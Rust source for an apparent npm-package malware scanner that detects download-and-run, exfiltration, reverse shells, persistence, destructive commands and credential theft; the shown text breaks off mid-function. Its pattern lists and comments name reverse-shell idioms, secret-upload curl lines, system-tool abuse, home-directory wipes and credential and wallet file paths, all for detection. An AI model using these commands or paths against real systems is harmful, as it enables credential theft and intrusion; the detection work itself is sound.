//! Malicious-behaviour detection (section 3 of the red-flag catalog): light data flow over the
//! facts of one file and across the install-time files, producing evidence chains.
//!
//! Sources are environment reads (whole object or secret-named variables), host/user
//! collection, credential-store paths that the same file reads, and cloud-metadata probes;
//! sinks are network calls, DNS lookups, `eval`/`Function`/`vm`, `child_process` and file
//! writes. Flow comes from the JS facts: each call records which source kinds reach each
//! argument through local bindings ([`ferret_core::CallFact::arg_sources`]) and its enclosing
//! function ([`ferret_core::CallFact::scope`], [`FileFacts::scope_at`]). Exfiltration needs a
//! source flowing into a network/DNS call or a source and a sink in one function; other
//! techniques still use co-occurrence in one file (or across the install-time files) plus the
//! folded constant arguments of calls (`exec("curl … | sh")`, `eval(<decoded string>)`).
//! Command lines (call arguments, install scripts, shipped `.sh`/`.bat`/`.ps1` lines) are read
//! by [`command_techniques`].
//!
//! Each [`Detection`] says whether it is strong enough for the `malware` verdict
//! (`malicious`): install-time code, code that runs on load, or endpoints no ordinary package
//! talks to. Capabilities alone never are: downloading a binary from the npm registry and
//! running `--version` on it (esbuild), spawning a shell (node-gyp) or making requests
//! (axios) produce no detection. Tests, docs and examples are skipped unless they run at
//! install time.

mod python;

use crate::detect::endpoints::{self, EndpointCategory};
use crate::detect::obfuscation::is_obfuscated;
use crate::detect::paths::{is_bundle_path, is_test_or_docs_path};
use crate::detect::{excerpt_at, string_excerpt};
use crate::rule::{FindingExt, RuleContext, RuleMeta};
use ferret_core::facts::Source;
use ferret_core::{
    Action, CallFact, Capability, CapabilityUse, Excerpt, FileFacts, FileKind, Finding, Location,
    PackageFacts, StringFact, TextContext, UseKind,
};

/// The behaviour techniques of section 3 that this module detects.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Technique {
    DownloadExec,
    Exfiltration,
    CredentialAccess,
    ReverseShell,
    Persistence,
    DestructiveCode,
    SelfPropagation,
    EncodedPayloadExec,
    /// Obfuscated or hidden (bidi, invisible, whitespace-pushed) code that reaches a
    /// dangerous capability; only feeds the verdict.
    HiddenPayload,
}

impl Technique {
    /// The rule id that reports this technique.
    pub fn id(self) -> &'static str {
        match self {
            Technique::DownloadExec => "download-exec",
            Technique::Exfiltration => "exfiltration",
            Technique::CredentialAccess => "credential-access",
            Technique::ReverseShell => "reverse-shell",
            Technique::Persistence => "persistence",
            Technique::DestructiveCode => "destructive-code",
            Technique::SelfPropagation => "self-propagation",
            Technique::EncodedPayloadExec => "encoded-payload-exec",
            Technique::HiddenPayload => "hidden-payload",
        }
    }
}

/// One link of an evidence chain: where, what code, and what it does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Step {
    pub location: Location,
    pub code: Excerpt,
    pub label: String,
}

impl Step {
    fn from_use(u: &CapabilityUse, label: impl Into<String>) -> Self {
        Self {
            location: u.location.clone(),
            code: u.code.clone(),
            label: label.into(),
        }
    }

    fn from_call(c: &CallFact, label: impl Into<String>) -> Self {
        Self {
            location: c.location.clone(),
            code: c.code.clone(),
            label: label.into(),
        }
    }

    fn from_string(s: &StringFact, label: impl Into<String>) -> Self {
        Self {
            location: s.location.clone(),
            code: string_excerpt(s),
            label: label.into(),
        }
    }

    /// `path:line:col`.
    pub fn at(&self) -> String {
        format!(
            "{}:{}:{}",
            self.location.path, self.location.line, self.location.column
        )
    }

    /// JSON for the evidence field.
    pub fn to_json(&self) -> serde_json::Value {
        serde_json::json!({
            "path": self.location.path,
            "line": self.location.line,
            "column": self.location.column,
            "what": self.label,
            "code": self.code.text,
        })
    }
}

/// A detected behaviour with its evidence chain.
#[derive(Debug, Clone, PartialEq)]
pub struct Detection {
    pub technique: Technique,
    /// The file the chain is about (`package.json` for install scripts).
    pub path: String,
    /// One line: what happens, in order.
    pub summary: String,
    pub steps: Vec<Step>,
    pub install_time: bool,
    /// Strong enough on its own for the `malware` verdict.
    pub malicious: bool,
}

impl Detection {
    /// The chain as one line: `label (path:line:col), then label (path:line:col)`.
    pub fn chain(&self) -> String {
        self.steps
            .iter()
            .map(|s| format!("{} ({})", s.label, s.at()))
            .collect::<Vec<_>>()
            .join(", then ")
    }
}

impl Detection {
    /// The finding of `meta` for this detection: the first step is the primary location, the
    /// others are related; evidence lists the chain. A detection too weak for the verdict is
    /// recorded (`monitor`) rather than shown.
    pub fn finding(&self, meta: &RuleMeta) -> Option<Finding> {
        let first = self.steps.first()?;
        let mut f = Finding::of(meta, self.summary.clone())
            .primary(&first.location, &first.code, first.label.clone())
            .install_time(self.install_time)
            .evidence(
                "chain",
                self.steps.iter().map(Step::to_json).collect::<Vec<_>>(),
            )
            .evidence("confidence", if self.malicious { "high" } else { "medium" });
        for s in self.steps.iter().skip(1) {
            f = f.related(&s.location, Some(&s.code), s.label.clone());
        }
        if !self.malicious {
            f.action = f.action.min(Action::Monitor);
        }
        Some(f)
    }
}

/// Reports every detection of `technique` as a finding of `meta` (one per file and technique).
pub fn report_technique(
    meta: &RuleMeta,
    technique: Technique,
    pkg: &PackageFacts,
    cx: &mut RuleContext,
) {
    let mut seen: Vec<String> = Vec::new();
    let all = cx.shared(pkg, detect);
    for d in all.iter().filter(|d| d.technique == technique) {
        if seen.contains(&d.path) {
            continue;
        }
        seen.push(d.path.clone());
        if let Some(f) = d.finding(meta) {
            cx.report(f);
        }
    }
}

/// Every behaviour detected in a package, in file order.
pub fn detect(pkg: &PackageFacts) -> Vec<Detection> {
    let mut out = Vec::new();
    for script in &pkg.install_scripts {
        install_script_detections(pkg, script, &mut out);
    }
    for file in &pkg.files {
        if !file.install_time && is_test_or_docs_path(&file.path) {
            continue;
        }
        if !file.is_code() && file.kind != FileKind::Script {
            continue;
        }
        let view = FileView::new(file);
        view.detect(&mut out);
    }
    cross_file_exfiltration(pkg, &mut out);
    encoded_module_load(pkg, &mut out);
    python::detect(pkg, &mut out);
    out
}

/// API and variable names that obfuscated loaders hex-encode (event-stream's flatmap-stream
/// hid `_compile`, `createDecipher` and `npm_package_description` this way).
const HIDDEN_NAMES: [&str; 14] = [
    "_compile",
    "createDecipher",
    "createDecipheriv",
    "child_process",
    "npm_package_description",
    "eval",
    "exec",
    "execSync",
    "spawn",
    "process",
    "env",
    "crypto",
    "readFileSync",
    "homedir",
];

/// Hex-encoded strings in the package that decode to the names above.
fn hex_encoded_names(pkg: &PackageFacts) -> Vec<(&StringFact, String)> {
    let mut out = Vec::new();
    for f in pkg.files.iter().filter(|f| f.is_code()) {
        for s in &f.strings {
            if s.len < 6
                || s.len > 64
                || s.len % 2 != 0
                || !s.value.bytes().all(|c| c.is_ascii_hexdigit())
            {
                continue;
            }
            let Ok(bytes) = hex::decode(&s.value) else {
                continue;
            };
            let Ok(text) = String::from_utf8(bytes) else {
                continue;
            };
            if HIDDEN_NAMES.contains(&text.as_str()) && !out.iter().any(|(_, t)| *t == text) {
                out.push((s, text));
            }
        }
    }
    out
}

/// A module loaded by a decoded name (`require(Buffer.from(x, 'hex').toString())`) in a
/// package that hex-encodes the names of code-loading APIs.
fn encoded_module_load(pkg: &PackageFacts, out: &mut Vec<Detection>) {
    let names = hex_encoded_names(pkg);
    if names.len() < 2 {
        return;
    }
    for f in pkg
        .files
        .iter()
        .filter(|f| f.is_code() && !is_test_or_docs_path(&f.path))
    {
        let Some(load) = f
            .uses
            .iter()
            .find(|u| u.capability == Capability::DynamicCode && u.api == "require(dynamic)")
        else {
            continue;
        };
        let Some(decode) = f.calls.iter().find(|c| {
            c.callee == "Buffer.from" && c.args.get(1).and_then(Option::as_deref) == Some("hex")
        }) else {
            continue;
        };
        let mut steps = vec![
            Step::from_call(decode, "decodes a hex string"),
            Step::from_use(load, "loads a module by the decoded name"),
        ];
        let list: Vec<&str> = names.iter().map(|(_, t)| t.as_str()).collect();
        if let Some((s, _)) = names.first() {
            steps.push(Step::from_string(
                s,
                format!("hides the names `{}` as hex", list.join("`, `")),
            ));
        }
        out.push(Detection {
            technique: Technique::EncodedPayloadExec,
            path: f.path.clone(),
            summary: format!(
                "`{}` loads a module by a hex-decoded name in a package that hex-encodes `{}`",
                f.path,
                list.join("`, `")
            ),
            steps,
            install_time: f.install_time,
            malicious: true,
        });
        return;
    }
}

/// The detections of one technique.
pub fn detect_technique(pkg: &PackageFacts, technique: Technique) -> Vec<Detection> {
    detect(pkg)
        .into_iter()
        .filter(|d| d.technique == technique)
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Command lines.

/// What a command line does, by technique, with a short reason.
pub fn command_techniques(cmd: &str) -> Vec<(Technique, &'static str)> {
    // Every pattern below spans at least 7 bytes and holds a space, `/` or `-` (`rm -r ~`,
    // `/dev/tcp/`, `--no-preserve-root`); this runs on every string of every file, most of
    // which are single words, so they are turned away before the lowercase copy.
    if cmd.len() > 16 * 1024
        || cmd.len() < 7
        || memchr::memchr3(b' ', b'/', b'-', cmd.as_bytes()).is_none()
    {
        return Vec::new();
    }
    // Each technique below needs at least one of these words; most strings hold none, and
    // one automaton pass turns them away before some forty substring searches.
    if !command_prefilter().is_some_and(|ac| ac.is_match(cmd)) {
        return Vec::new();
    }
    techniques_of_command(cmd)
}

/// [`command_techniques`] without the length and word filters in front of it.
fn techniques_of_command(cmd: &str) -> Vec<(Technique, &'static str)> {
    let mut out = Vec::new();
    let l = cmd.to_ascii_lowercase();
    let has = |s: &str| l.contains(s);
    let fetcher = FETCHERS.iter().any(|f| l.contains(f));
    // Only a fetcher needs a URL (classifying a raw IP is the costly part).
    let has_url = fetcher && (has("http://") || has("https://") || has("ftp://") || has_raw_ip(&l));
    if fetcher && has_url && (pipes_to_interpreter(&l) || runs_download(&l)) {
        out.push((Technique::DownloadExec, "downloads a script and runs it"));
    }
    let lolbas = (has("regsvr32") && (has("/i:http") || has("scrobj")))
        || (has("mshta") && (has("http") || has("vbscript:") || has("javascript:")))
        || (has("rundll32") && (has("javascript:") || has("http") || has("url.dll")))
        || (has("certutil") && has("-urlcache"))
        || (has("bitsadmin") && has("/transfer"))
        || ((has("powershell") || has("pwsh"))
            && (has(" -enc") || has(" -encodedcommand") || has(" -e ")));
    if lolbas {
        out.push((
            Technique::DownloadExec,
            "abuses a Windows system tool to download and run code",
        ));
    }
    if has("/dev/tcp/")
        || has("/dev/udp/")
        || ((has("nc ") || has("ncat ") || has("netcat ")) && (has(" -e ") || has(" -c ")))
        || (has("mkfifo") && (has("nc ") || has("sh -i")))
        || (has("bash -i") && has(">&"))
        || (has("socat") && has("exec:"))
    {
        out.push((
            Technique::ReverseShell,
            "connects a shell to a remote socket",
        ));
    }
    if (has("crontab") && (has("crontab -") || has("| crontab")))
        || (has("reg add") && has("currentversion\\run"))
        || (has("schtasks") && has("/create"))
        || (has("systemctl") && has("enable"))
        || has("launchctl load")
        || ((has(">> ~/.") || has(">>~/.") || has(">> $home/."))
            && (has("bashrc") || has("zshrc") || has("profile")))
    {
        out.push((Technique::Persistence, "installs an autostart entry"));
    }
    if wipes_root_or_home(&l) {
        out.push((
            Technique::DestructiveCode,
            "deletes the home or root directory",
        ));
    }
    if has("npm publish") || has("npm-publish") {
        out.push((Technique::SelfPropagation, "publishes to the npm registry"));
    }
    if fetcher && uploads_secrets(&l) {
        out.push((
            Technique::Exfiltration,
            "uploads a credential file or the environment",
        ));
    }
    if has("gh auth token")
        || (has("npm config get") && has("authtoken"))
        || (has("security find-generic-password"))
        || ((has("cat ") || has("type ")) && credential_store(&l).is_some())
    {
        out.push((Technique::CredentialAccess, "reads stored credentials"));
    }
    out
}

/// A word every technique of [`command_techniques`] needs (its fetchers, system tools,
/// shells and sockets, autostart places, deletions, publishing, credential commands), for a
/// case-insensitive test that turns ordinary strings away. A technique added there must add
/// one of its necessary words here (`command_prefilter_covers_every_technique`).
const COMMAND_WORDS: &[&str] = &[
    // download and run / exfiltration need one of the FETCHERS, which the filter adds
    // Windows system tools
    "regsvr32",
    "mshta",
    "rundll32",
    "certutil",
    "bitsadmin",
    "powershell",
    "pwsh",
    // reverse shells
    "/dev/tcp/",
    "/dev/udp/",
    "nc ",
    "ncat ",
    "netcat ",
    "mkfifo",
    "bash -i",
    "socat",
    // persistence
    "crontab",
    "reg add",
    "schtasks",
    "systemctl",
    "launchctl load",
    ">> ~/.",
    ">>~/.",
    ">> $home/.",
    // destruction
    "rm -",
    "--no-preserve-root",
    "del ",
    "rd ",
    "rmdir ",
    // self-propagation
    "npm publish",
    "npm-publish",
    // credential access
    "gh auth token",
    "npm config get",
    "security find-generic-password",
    "cat ",
    "type ",
];

/// Commands that download (lower-case, as [`command_techniques`] matches them).
const FETCHERS: &[&str] = &[
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "invoke-restmethod",
    "irm ",
    "downloadstring",
    "downloadfile",
    "net.webclient",
    "start-bitstransfer",
];

fn command_prefilter() -> Option<&'static aho_corasick::AhoCorasick> {
    static AC: std::sync::OnceLock<Option<aho_corasick::AhoCorasick>> = std::sync::OnceLock::new();
    AC.get_or_init(|| {
        aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(FETCHERS.iter().chain(COMMAND_WORDS))
            .ok()
    })
    .as_ref()
}

fn has_raw_ip(l: &str) -> bool {
    endpoints::classify(l)
        .iter()
        .any(|e| e.category == EndpointCategory::RawIp)
}

/// `| sh`, `|bash`, `| sudo bash`, `| iex`, `| node`, `| python`, `iex (…)`.
fn pipes_to_interpreter(l: &str) -> bool {
    const INTERP: [&str; 13] = [
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "iex",
        "node",
        "python",
        "python3",
        "perl",
        "pwsh",
        "powershell",
        "bun",
    ];
    for (i, _) in l.match_indices('|') {
        if l[i + 1..].starts_with('|') || (i > 0 && l.as_bytes()[i - 1] == b'|') {
            continue;
        }
        let rest = l[i + 1..].trim_start();
        let rest = rest.strip_prefix("sudo ").unwrap_or(rest).trim_start();
        let word: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '.')
            .collect();
        let word = word.trim_end_matches(".exe");
        if INTERP.contains(&word) {
            return true;
        }
    }
    l.contains("iex(") || l.contains("iex (") || l.contains("invoke-expression")
}

/// `curl -d @~/.npmrc …`, `curl -F f=@$HOME/.ssh/id_rsa …`, `wget --post-file=.env …`,
/// `curl --data "$(cat ~/.aws/credentials)" …`, `env | curl --data-binary @- …`: a command
/// that sends a credential file or the whole environment to a server (`l` is lowercased).
fn uploads_secrets(l: &str) -> bool {
    let words: Vec<&str> = l.split_whitespace().collect();
    let upload_flag = |w: &str| {
        matches!(
            w,
            "-d" | "--data"
                | "--data-binary"
                | "--data-raw"
                | "--data-urlencode"
                | "-f"
                | "--form"
                | "-t"
                | "--upload-file"
        ) || w.starts_with("--post-file")
            || w.starts_with("--post-data")
            || w.starts_with("--body-file")
            || w.starts_with("--data")
    };
    if !words.iter().any(|w| upload_flag(w)) {
        return false;
    }
    let secret_word = |w: &str| {
        let w = w.trim_matches(['"', '\'', '(', ')', '`', ';']);
        let w = w.rsplit('=').next().unwrap_or(w);
        let w = w.trim_start_matches('@');
        let w = w
            .strip_prefix("$home")
            .or_else(|| w.strip_prefix("${home}"))
            .or_else(|| w.strip_prefix('~'))
            .unwrap_or(w);
        !w.is_empty() && (credential_store(w).is_some() || is_dotenv(w))
    };
    if words.iter().any(|w| secret_word(w)) {
        return true;
    }
    // The environment piped or substituted into the request.
    let env_dump = [
        "env |",
        "printenv |",
        "set |",
        "$(env)",
        "$(printenv)",
        "`env`",
    ];
    env_dump.iter().any(|d| l.contains(d))
}

/// A download followed by making it executable or starting it.
fn runs_download(l: &str) -> bool {
    l.contains("chmod +x")
        || l.contains("chmod 7")
        || l.contains("chmod u+x")
        || l.contains("&& ./")
        || l.contains("; ./")
        || l.contains("start-process")
        || (l.contains("-outfile") && (l.contains("node ") || l.contains("start ")))
}

fn wipes_root_or_home(l: &str) -> bool {
    for (i, _) in l.match_indices("rm -") {
        let rest = &l[i + 3..];
        let mut words = rest.split_whitespace();
        let mut recursive = false;
        let mut target = None;
        for w in words.by_ref() {
            if let Some(flags) = w.strip_prefix('-') {
                recursive |= flags.contains('r') || flags.contains('R');
                continue;
            }
            target = Some(w);
            break;
        }
        if recursive && let Some(t) = target {
            let t = t.trim_matches(['"', '\'', ';', '&']);
            if matches!(
                t,
                "/" | "/*" | "~" | "~/" | "~/*" | "$home" | "$home/" | "$home/*"
            ) {
                return true;
            }
        }
    }
    l.contains("--no-preserve-root")
        || ((l.contains("del ") || l.contains("rd ") || l.contains("rmdir "))
            && l.contains("/s")
            && (l.contains(" c:\\ ") || l.ends_with(" c:\\") || l.contains("%userprofile%")))
}

// ---------------------------------------------------------------------------------------------
// Credential stores.

/// The credential store a path-like string names, if any.
pub fn credential_store(s: &str) -> Option<&'static str> {
    // Paths, not prose: a sentence that mentions `.env files` or `wallet.dat` is not a read.
    if s.len() > 300 || s.matches(' ').count() > 3 || s.contains(", ") {
        return None;
    }
    let l = s.to_ascii_lowercase();
    let l = l.replace('\\', "/");
    let ends = |suffix: &str| l == suffix.trim_start_matches('/') || l.ends_with(suffix);
    const TABLE: &[(&str, &str)] = &[
        (".ssh/id_", "SSH private keys"),
        ("id_rsa", "SSH private keys"),
        ("id_ed25519", "SSH private keys"),
        (".aws/credentials", "AWS credentials"),
        (".kube/config", "Kubernetes config"),
        (".docker/config.json", "Docker credentials"),
        (".git-credentials", "git credentials"),
        (".netrc", "netrc credentials"),
        (".pgpass", "PostgreSQL passwords"),
        (".config/gh/hosts.yml", "GitHub CLI token"),
        (".config/gcloud", "Google Cloud credentials"),
        (
            "application_default_credentials",
            "Google Cloud credentials",
        ),
        (".azure/accesstokens", "Azure tokens"),
        (".claude/.credentials", "Claude credentials"),
        ("login data", "browser saved passwords"),
        ("user data/default", "browser profile"),
        ("default/cookies", "browser cookies"),
        ("local storage/leveldb", "browser local storage"),
        (
            "local extension settings",
            "browser extension (wallet) storage",
        ),
        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "MetaMask wallet"),
        ("bfnaelmomeimhlpmgjnjophhpkkoljpa", "Phantom wallet"),
        ("wallet.dat", "cryptocurrency wallet"),
        ("exodus/exodus.wallet", "Exodus wallet"),
        ("electrum/wallets", "Electrum wallet"),
        ("solana/id.json", "Solana keypair"),
        ("key4.db", "Firefox saved passwords"),
        ("logins.json", "Firefox saved passwords"),
    ];
    for (needle, name) in TABLE {
        if l.contains(needle) {
            return Some(name);
        }
    }
    if l == "local storage" || l == "local state" {
        return Some("browser local storage");
    }
    if ends("/.npmrc") {
        return Some("npm token (.npmrc)");
    }
    if ends("/.ssh") {
        return Some("SSH keys");
    }
    if ends("/.aws") {
        return Some("AWS credentials");
    }
    if ends("/.kube") {
        return Some("Kubernetes config");
    }
    if ends("/.config/gh") {
        return Some("GitHub CLI token");
    }
    None
}

/// A command line that uploads distributions to PyPI (`twine upload dist/*`,
/// `python setup.py sdist upload`, `poetry publish`, `uv publish`, `flit publish`).
fn is_pypi_upload_command(l: &str) -> bool {
    l.contains("twine upload")
        || (l.contains("setup.py") && l.contains(" upload"))
        || l.contains("poetry publish")
        || l.contains("uv publish")
        || l.contains("flit publish")
}

/// A project `.env` file (dotenv): weaker than a home-directory store.
fn is_dotenv(s: &str) -> bool {
    let name = s.rsplit(['/', '\\']).next().unwrap_or(s);
    name == ".env" || (name.starts_with(".env.") && name.len() < 24)
}

// ---------------------------------------------------------------------------------------------
// Environment variables.

/// A variable name that holds a secret.
pub fn is_secret_env(name: &str) -> bool {
    let u = name.to_ascii_uppercase();
    if u.starts_with("NPM_CONFIG_") && !u.ends_with("TOKEN") && !u.ends_with("AUTH") {
        return false;
    }
    const BENIGN: [&str; 6] = [
        "KEYBOARD",
        "KEYCHAIN",
        "SECRETS_DIR",
        "TOKENIZER",
        "PUBLIC_KEY",
        "KEY_PATH",
    ];
    if BENIGN.iter().any(|b| u.contains(b)) {
        return false;
    }
    u.contains("TOKEN")
        || u.contains("SECRET")
        || u.contains("PASSWORD")
        || u.contains("PASSWD")
        || u.ends_with("_KEY")
        || u.contains("API_KEY")
        || u.contains("ACCESS_KEY")
        || u.starts_with("AWS_")
        || u.contains("CREDENTIAL")
        || u == "NPM_TOKEN"
}

// ---------------------------------------------------------------------------------------------
// Code strings (decoded or eval'd JS).

/// What a piece of JavaScript source (a decoded blob, an eval'd string, `node -e` code) does.
#[derive(Debug, Default, Clone, Copy)]
struct CodeText {
    network: bool,
    shell: bool,
    env: bool,
    sysinfo: bool,
    fs_read: bool,
    dangerous: bool,
}

fn code_text(s: &str) -> CodeText {
    if s.len() < 12 {
        return CodeText::default();
    }
    let has = |n: &str| s.contains(n);
    let network = has("require('http")
        || has("require(\"http")
        || has("require('net')")
        || has("require('dns')")
        || has("fetch(")
        || has("XMLHttpRequest")
        || has(".request(")
        || has("https.get");
    let shell = has("child_process") || has("execSync(") || has(".exec(") || has("spawn(");
    let env = has("process.env");
    let sysinfo = has("hostname()") || has("userInfo()") || has("networkInterfaces()");
    let fs_read = has("readFileSync") || has("readFile(");
    let looks_code = has("require(") || has("import(") || has("=>") || has("function");
    let dangerous = looks_code && (shell || (network && (env || sysinfo || fs_read)));
    CodeText {
        network,
        shell,
        env,
        sysinfo,
        fs_read,
        dangerous,
    }
}

// ---------------------------------------------------------------------------------------------
// Install scripts.

fn install_script_detections(
    pkg: &PackageFacts,
    script: &ferret_core::InstallScript,
    out: &mut Vec<Detection>,
) {
    let api = format!("install:{}", script.hook);
    let manifest_use = pkg
        .file(crate::engine::MANIFEST)
        .and_then(|f| f.uses.iter().find(|u| u.api == api));
    let step = |label: String| -> Step {
        match manifest_use {
            Some(u) => Step::from_use(u, label),
            None => {
                let loc = script
                    .location
                    .clone()
                    .unwrap_or_else(|| crate::engine::file_start(crate::engine::MANIFEST));
                let code = excerpt_at(&loc, &script.command);
                Step {
                    location: loc,
                    code,
                    label,
                }
            }
        }
    };
    let mut seen = Vec::new();
    for (t, why) in command_techniques(&script.command) {
        if seen.contains(&t) {
            continue;
        }
        seen.push(t);
        let label = format!("`{}` runs `{}`", script.hook, cut(&script.command, 80));
        out.push(Detection {
            technique: t,
            path: crate::engine::MANIFEST.to_string(),
            summary: format!("install script `{}` {why}", script.hook),
            steps: vec![step(label)],
            install_time: true,
            malicious: t != Technique::Persistence || command_has_download(&script.command),
        });
    }
    // `node -e "<code>"`: inline install-time code.
    for argv in &script.commands {
        let Some(pos) = argv
            .iter()
            .position(|a| a == "-e" || a == "--eval" || a == "-p")
        else {
            continue;
        };
        if !argv
            .first()
            .is_some_and(|a| a.ends_with("node") || a == "bun")
        {
            continue;
        }
        let Some(code) = argv.get(pos + 1) else {
            continue;
        };
        let ct = code_text(code);
        if ct.network && (ct.env || ct.sysinfo || ct.fs_read) {
            out.push(Detection {
                technique: Technique::Exfiltration,
                path: crate::engine::MANIFEST.to_string(),
                summary: format!(
                    "install script `{}` runs inline code that sends {} over the network",
                    script.hook,
                    what_code_sends(ct)
                ),
                steps: vec![step(format!(
                    "`{}` runs `node -e` code sending {} to the network",
                    script.hook,
                    what_code_sends(ct)
                ))],
                install_time: true,
                malicious: true,
            });
        } else if ct.shell && ct.network {
            out.push(Detection {
                technique: Technique::DownloadExec,
                path: crate::engine::MANIFEST.to_string(),
                summary: format!(
                    "install script `{}` runs inline code that downloads and executes",
                    script.hook
                ),
                steps: vec![step(format!(
                    "`{}` runs `node -e` download/execute code",
                    script.hook
                ))],
                install_time: true,
                malicious: true,
            });
        }
    }
}

fn command_has_download(cmd: &str) -> bool {
    command_techniques(cmd)
        .iter()
        .any(|(t, _)| *t == Technique::DownloadExec)
}

fn what_code_sends(ct: CodeText) -> &'static str {
    if ct.env {
        "environment variables"
    } else if ct.fs_read {
        "file contents"
    } else {
        "host and user information"
    }
}

// ---------------------------------------------------------------------------------------------
// One file.

struct FileView<'a> {
    file: &'a FileFacts,
    install_time: bool,
    /// Runs on load or at install: install-time, or a top-level call.
    bundle: bool,
    net: Vec<&'a CapabilityUse>,
    net_top: bool,
    dns: Vec<&'a CallFact>,
    env_bulk: Vec<&'a CapabilityUse>,
    env_secret: Vec<&'a CapabilityUse>,
    sysinfo: Vec<&'a CapabilityUse>,
    fs_read: Vec<&'a CapabilityUse>,
    fs_write: Vec<&'a CapabilityUse>,
    shell: Vec<&'a CapabilityUse>,
    dyn_calls: Vec<&'a CallFact>,
    shell_calls: Vec<&'a CallFact>,
    decode_calls: Vec<&'a CallFact>,
}

const DECODERS: [&str; 5] = [
    "Buffer.from",
    "atob",
    "String.fromCharCode",
    "crypto.createDecipheriv",
    "crypto.createDecipher",
];

fn is_dyn_callee(c: &str) -> bool {
    matches!(
        c,
        "eval" | "Function" | "module._compile" | "setTimeout" | "setInterval" | "setImmediate"
    ) || c.starts_with("vm.")
        || c == "worker_threads.Worker"
}

impl<'a> FileView<'a> {
    fn new(file: &'a FileFacts) -> Self {
        let call_use = |u: &&CapabilityUse| matches!(u.kind, UseKind::Call | UseKind::Construct);
        let net: Vec<&CapabilityUse> = file
            .uses_of(Capability::Network)
            .filter(call_use)
            .filter(|u| u.api != "dns.getServers")
            .collect();
        let net_top = file.calls.iter().any(|c| {
            c.top_level
                && net
                    .iter()
                    .any(|u| u.location.line == c.location.line && u.api == c.callee)
        });
        let env = file.uses_of(Capability::Env);
        let mut env_bulk = Vec::new();
        let mut env_secret = Vec::new();
        for u in env {
            match u.detail.as_deref() {
                Some("*") => env_bulk.push(u),
                Some(name) if is_secret_env(name) => env_secret.push(u),
                _ => {}
            }
        }
        let sysinfo = file
            .uses_of(Capability::SystemInfo)
            .filter(|u| {
                u.api.ends_with("hostname")
                    || u.api.ends_with("userInfo")
                    || u.api.ends_with("networkInterfaces")
            })
            .collect();
        let fs = file.uses_of(Capability::Filesystem).filter(call_use);
        let (mut fs_read, mut fs_write) = (Vec::new(), Vec::new());
        for u in fs {
            let m = u
                .api
                .rsplit('.')
                .next()
                .unwrap_or(&u.api)
                .to_ascii_lowercase();
            if m.contains("read") || m.contains("copyfile") || m.starts_with("open") {
                fs_read.push(u);
            }
            if m.contains("write") || m.contains("append") {
                fs_write.push(u);
            }
        }
        let shell = file.uses_of(Capability::Shell).filter(call_use).collect();
        let dyn_calls = file
            .calls
            .iter()
            .filter(|c| is_dyn_callee(&c.callee))
            .filter(|c| {
                // Timers only count with a string body.
                !c.callee.starts_with("set")
                    || file.uses.iter().any(|u| {
                        u.capability == Capability::DynamicCode
                            && u.location.line == c.location.line
                    })
            })
            .collect();
        let shell_calls = file
            .calls
            .iter()
            .filter(|c| {
                c.callee.starts_with("child_process.")
                    || c.callee.starts_with("execa")
                    || c.callee.starts_with("cross-spawn")
                    || c.callee.starts_with("shelljs.")
            })
            .collect();
        let dns = file
            .calls
            .iter()
            .filter(|c| c.callee.starts_with("dns.") && !c.callee.ends_with("getServers"))
            .collect();
        let decode_calls = file
            .calls
            .iter()
            .filter(|c| {
                DECODERS.contains(&c.callee.as_str())
                    && (c.callee != "Buffer.from"
                        || c.args
                            .get(1)
                            .and_then(Option::as_deref)
                            .is_some_and(|e| matches!(e, "base64" | "hex" | "base64url")))
            })
            .collect();
        Self {
            file,
            install_time: file.install_time,
            bundle: is_bundle_path(&file.path) || file.text.minified,
            net,
            net_top,
            dns,
            env_bulk,
            env_secret,
            sysinfo,
            fs_read,
            fs_write,
            shell,
            dyn_calls,
            shell_calls,
            decode_calls,
        }
    }

    fn path(&self) -> &str {
        &self.file.path
    }

    fn where_(&self) -> String {
        if self.install_time {
            format!("install-time `{}`", self.path())
        } else {
            format!("`{}`", self.path())
        }
    }

    fn detection(
        &self,
        t: Technique,
        summary: String,
        steps: Vec<Step>,
        malicious: bool,
    ) -> Detection {
        Detection {
            technique: t,
            path: self.file.path.clone(),
            summary,
            steps,
            install_time: self.install_time,
            malicious,
        }
    }

    /// Strings that are command lines in this file: shell-call arguments, every string of a
    /// file that spawns processes or is obfuscated, every line of a shipped script.
    fn command_strings(&self) -> Vec<(&'a StringFact, Option<&'a CallFact>)> {
        let file = self.file;
        let all = file.kind == FileKind::Script
            || !self.shell.is_empty()
            || is_obfuscated(file).is_some()
            || file
                .uses
                .iter()
                .any(|u| u.api == "require(dynamic)" && u.capability == Capability::DynamicCode);
        let mut out = Vec::new();
        for s in &file.strings {
            if s.len > 4096 {
                continue;
            }
            let call = self.shell_calls.iter().copied().find(|c| {
                c.location.line == s.location.line && c.args.iter().flatten().any(|a| a == &s.value)
            });
            if all || call.is_some() {
                out.push((s, call));
            }
        }
        out
    }

    fn detect(&self, out: &mut Vec<Detection>) {
        self.commands(out);
        self.credentials_and_exfiltration(out);
        self.dynamic_code(out);
        self.download_write_run(out);
        self.reverse_shell(out);
        self.persistence(out);
        self.destructive(out);
        self.self_propagation(out);
        self.hidden_payload(out);
    }

    fn commands(&self, out: &mut Vec<Detection>) {
        let mut seen: Vec<Technique> = Vec::new();
        // `spawn('powershell.exe', ['-enc', …])`: the argv is spread over several strings.
        let joined: Vec<(StringFact, Option<&CallFact>)> = self
            .shell_calls
            .iter()
            .filter_map(|c| {
                let mut parts: Vec<&StringFact> = self
                    .file
                    .strings
                    .iter()
                    .filter(|s| s.location.line == c.location.line && s.len < 4096)
                    .collect();
                if parts.len() < 2 {
                    return None;
                }
                parts.sort_by_key(|s| s.location.column);
                let value = parts
                    .iter()
                    .map(|s| s.value.as_str())
                    .collect::<Vec<_>>()
                    .join(" ");
                Some((
                    StringFact {
                        len: value.len(),
                        value,
                        folded: true,
                        location: parts[0].location.clone(),
                    },
                    Some(*c),
                ))
            })
            .collect();
        let candidates = self
            .command_strings()
            .into_iter()
            .chain(joined.iter().map(|(s, c)| (s, *c)));
        for (s, call) in candidates {
            for (t, why) in command_techniques(&s.value) {
                // Persistence and self-propagation have their own, richer checks.
                if seen.contains(&t)
